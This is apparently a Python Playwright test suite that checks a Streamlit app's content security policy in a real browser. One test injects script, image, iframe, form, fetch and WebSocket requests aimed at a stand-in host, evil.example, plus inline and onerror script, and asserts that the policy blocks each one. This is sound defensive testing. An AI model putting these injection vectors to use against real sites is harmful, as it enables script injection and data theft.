"""The content security policy in a real browser: every screen works under it, and what is not ours doesn't run."""

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.browser.people import Organiser, Participant, Person
from tests.hall import Hall

# Streamlit's frontend tries whether it may reckon with WebAssembly, and does without when it may not.
DONE_WITHOUT = "violated: script-src by wasm-eval"
PASSWORD = "input[type=password]"
QUIET = """() => document.querySelector("[data-testid=stApp]").dataset.testScriptState === "notRunning" """
TELL = """addEventListener("securitypolicyviolation", (event) =>
    console.error(`violated: ${event.violatedDirective} by ${event.blockedURI} at ${location.pathname}`))"""


@dataclass
class Watch:
    """What browsers complain of while a test looks."""

    said: list[str] = field(default_factory=list)

    def over(self, *people: Person) -> None:
        for person in people:
            self.context(person.context)

    def context(self, context: BrowserContext) -> None:
        context.add_init_script(TELL)
        context.on("console", lambda message: self._hear(message.text))
        context.on("weberror", lambda error: self.said.append(str(error.error)))

    def _hear(self, text: str) -> None:
        if not text.startswith(DONE_WITHOUT) and re.search(
            r"violat|Content.Security.Policy|Permissions-Policy|Cross-Origin", text, re.IGNORECASE
        ):
            self.said.append(text[:300])


@pytest.fixture
def watch() -> Watch:
    return Watch()


def look(person: Person, path: str, seen: str) -> None:
    """Open a screen and wait until it stands there whole."""
    person.visit(path)
    expect(person.page.locator(seen).first).to_be_visible()
    person.page.wait_for_function(QUIET)


def test_the_watch_sees_what_a_policy_forbids(someone: Callable[..., Person], watch: Watch) -> None:
    """Without this the other tests would show nothing. It is also what an injected script could do: nothing."""
    eve = someone()
    watch.over(eve)
    look(eve, "/", "header.bar")
    assert watch.said == []
    eve.page.evaluate("""() => {
        const put = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
        put("script", { textContent: "window.broken = true" });
        put("script", { src: "http://evil.example/x.js" });
        put("img", { src: "http://evil.example/x.png" });
        put("object", { data: "/x" });
        put("iframe", { src: "http://evil.example/" });
        document.head.append(Object.assign(document.createElement("base"), { href: "http://evil.example/" }));
        const form = put("form", { action: "http://evil.example/", method: "post" });
        document.querySelector("form[action*=evil]").submit();
        const holder = document.createElement("div");
        holder.innerHTML = "<img src='/nothing' onerror='window.broken = true'>";
        document.body.append(holder);
        fetch("http://evil.example/").catch(() => 0);
        setTimeout("window.broken = true");
        try { new WebSocket("ws://evil.example/"); } catch {}
    }""")
    eve.page.wait_for_timeout(1000)  # what is forbidden is told a moment later
    directives = {found[1] for one in watch.said if (found := re.match(r"violated: (\S+) by", one))}
    assert directives == {
        *("script-src", "script-src-elem", "script-src-attr", "img-src", "object-src", "frame-src"),
        *("base-uri", "form-action", "connect-src"),
    }
    assert eve.page.evaluate("window.broken") is None


@pytest.mark.long
def test_every_screen_works_under_the_policy(dee: Organiser, someone: Callable[..., Person], watch: Watch) -> None:
    wall, ben, eve = someone(), someone(Participant), someone()
    watch.over(dee, wall, ben, eve)
    for_anybody = {
        "/": "header.bar",
        "/facilitate": PASSWORD,
        "/join": ".refused",
        "/review": PASSWORD,
        "/nothing": "h1",
    }
    for path, seen in {**for_anybody, "/example": "h1"}.items():
        look(eve, path, seen)
    for_dee = {"/facilitate": ".st-key-plan_title", "/cases": ".st-key-new_title", "/script?programme=first_time": "h1"}
    for path, seen in {"/": "header.bar", **for_dee, "/programmes": "[class*=st-key-copy_]"}.items():
        look(dee, path, seen)
    code = dee.create("Beleid", roles=("beleid", "partner"))
    dee.page.wait_for_selector("iframe")
    look(wall, f"/project?code={code}", ".wall.lobby")
    look(ben, f"/check?code={code}", "h1")
    ben.join(code, "beleid")
    for name in ("next", "open"):
        dee.control(name)
    ben.place(10)
    others = [someone(Participant) for _ in range(2)]
    for at, other in enumerate(others):
        other.join(code)
        other.place(50 + 40 * at)
    expect(wall.page.locator(".picture[role=img] .main-svg").first).to_be_visible()
    dee.control("close")
    ben.page.wait_for_selector(".strip")
    dee.control("go_q02")
    dee.control("open")
    ben.page.wait_for_selector(".writing")
    ben.page.locator("textarea").fill("Doen wat je zegt")
    ben.page.locator(".add").click()
    dee.page.wait_for_selector(".written")
    dee.press("Keur goed")
    wall.page.wait_for_selector(".deck li")
    dee.control("timer_start")
    wall.page.wait_for_selector(".clock .digits")
    dee.control("end")
    dee.control("end_yes")
    dee.control("to_review")
    expect(dee.page.locator(".picture[role=img] .main-svg").first).to_be_visible()
    assert watch.said == []


@pytest.mark.long
def test_every_kind_of_activity_works_under_the_policy(
    someone: Callable[..., Person], hall: Hall, watch: Watch
) -> None:
    hall.fill(5)
    wall, ben = someone(), someone(Participant)
    watch.over(wall, ben)
    ben.join(hall.session.code)
    wall.visit(f"/project?code={hall.session.code}")
    moments = 0
    for moment in hall.walk():
        person = ben if moment.phase == "open" else wall
        place = "main.form, .form, .writing, .slider" if moment.phase == "open" else ".wall.top"
        expect(person.page.locator(f".offline:not([data-stage='{hall.stage()}'], [data-stage=''])")).to_have_count(0)
        expect(person.page.locator(place).first).to_be_visible()
        assert watch.said == [], f"{moment.name} {moment.phase}"
        moments += 1
    assert moments >= 48


@pytest.mark.long
def test_the_editor_takes_files_and_gives_them_under_the_policy(dee: Organiser, watch: Watch, tmp_path: Path) -> None:
    """Through the door as well, which lets only her bring a file."""
    watch.over(dee)
    look(dee, "/programmes", "[class*=st-key-copy_]")
    dee.control("copy_first_time")
    dee.page.wait_for_url("**/programmes?programme=1")
    with dee.page.expect_download() as download:
        dee.press(re.compile("Download"))
    file = Path(tmp_path / "eigen.toml")
    download.value.save_as(file)
    assert "[[activities]]" in file.read_text(encoding="utf-8")
    look(dee, "/programmes", "[class*=st-key-copy_]")
    dee.page.locator("input[type=file]").set_input_files(file)
    dee.page.wait_for_url("**/programmes?programme=2")
    dee.page.wait_for_function(QUIET)
    assert watch.said == []
